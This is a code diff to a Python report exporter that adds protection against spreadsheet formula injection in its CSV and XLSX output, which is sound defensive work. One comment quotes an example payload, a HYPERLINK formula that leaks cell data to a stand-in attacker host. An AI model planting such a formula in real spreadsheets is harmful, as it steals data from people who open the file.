@@ -359,25 +359,50 @@ def tables(rep: dict[str, Any], lang: str = "zh-CN") -> list[tuple[str, list[str
     ]  # fmt: skip
 
 
+# Text a spreadsheet would run as a formula (OWASP "CSV injection"): a schedule title typed by staff such as
+# =HYPERLINK("http://evil.example/?x="&A1) must arrive as text. Only text is touched: numbers stay numbers.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: Any) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV value: text that starts like a formula gets a leading apostrophe, which spreadsheets show as text."""
+    if value is None:
+        return ""
+    return "'" + value if is_formula_like(value) else value
+
+
 def write_csv(rep: dict[str, Any], out: IO[str], lang: str = "zh-CN") -> None:
     """All tables in one CSV: a title row, the header, the rows, a blank row."""
     writer = csv.writer(out)
     for name, header, rows in tables(rep, lang):
-        writer.writerow([name])
-        writer.writerow(header)
-        writer.writerows([["" if v is None else v for v in row] for row in rows])
+        writer.writerow([csv_cell(name)])
+        writer.writerow([csv_cell(v) for v in header])
+        writer.writerows([[csv_cell(v) for v in row] for row in rows])
         writer.writerow([])
 
 
 def write_xlsx(rep: dict[str, Any], out: IO[bytes] | str | Path, lang: str = "zh-CN") -> None:
-    """One sheet per table; numbers stay numbers."""
+    """One sheet per table; numbers stay numbers, and no text becomes a formula."""
     from openpyxl import Workbook
+    from openpyxl.cell.cell import Cell
 
     book = Workbook()
     book.remove(book.active)
     for name, header, rows in tables(rep, lang):
         sheet = book.create_sheet(name[:31])
-        sheet.append(header)
-        for row in rows:
-            sheet.append(row)
+        for row in (header, *rows):
+            cells = []
+            for value in row:
+                cell = Cell(sheet, value=value)
+                if is_formula_like(value):
+                    # openpyxl stores text starting with "=" as a formula: keep it a string, and mark it the way
+                    # Excel marks text typed with a leading apostrophe (shown as typed, never evaluated).
+                    cell.data_type = "s"
+                    cell.quotePrefix = True
+                cells.append(cell)
+            sheet.append(cells)
     book.save(out)
